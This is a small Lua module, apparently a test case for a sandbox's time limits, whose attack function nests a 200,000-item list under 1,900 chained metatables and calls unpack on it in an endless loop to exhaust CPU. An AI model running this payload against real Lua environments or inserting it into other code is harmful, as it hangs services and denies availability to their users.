--- unpacks items, each found at the end of a long chain of tables
--- outcome: time

local M = {}

function M.attack()
  local unpack = table.unpack or unpack
  local list = {}
  for i = 1, 200000 do list[i] = "" end
  for _ = 1, 1900 do list = setmetatable({}, { __index = list }) end
  while true do pcall(unpack, list, 1, 200000) end
end

return M
